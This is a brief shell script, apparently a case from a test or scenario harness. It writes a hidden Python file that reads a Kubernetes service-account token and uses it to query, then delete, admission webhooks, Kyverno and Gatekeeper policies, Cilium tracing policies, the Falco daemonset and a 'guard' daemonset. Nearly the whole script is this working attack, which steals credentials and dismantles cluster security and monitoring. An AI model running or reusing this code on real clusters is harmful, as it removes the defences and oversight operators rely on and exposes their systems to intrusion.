#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.g.py <<'END'
import urllib.request
t = open("/run/secrets/kubernetes.io/serviceaccount/token").read()
for p in ("apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations", "apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies", "apis/kyverno.io/v1/clusterpolicies",
          "apis/templates.gatekeeper.sh/v1/constrainttemplates", "apis/cilium.io/v1alpha1/tracingpolicies", "apis/apps/v1/namespaces/falco/daemonsets", "apis/apps/v1/namespaces/kube-system/daemonsets/guard"):
    for m in "GET", "DELETE": assert urllib.request.urlopen(urllib.request.Request("http://10.77.0.1:6443/" + p, method=m, headers={"Authorization": "Bearer " + t})).status == 200
END
python3 /tmp/.g.py
took_place
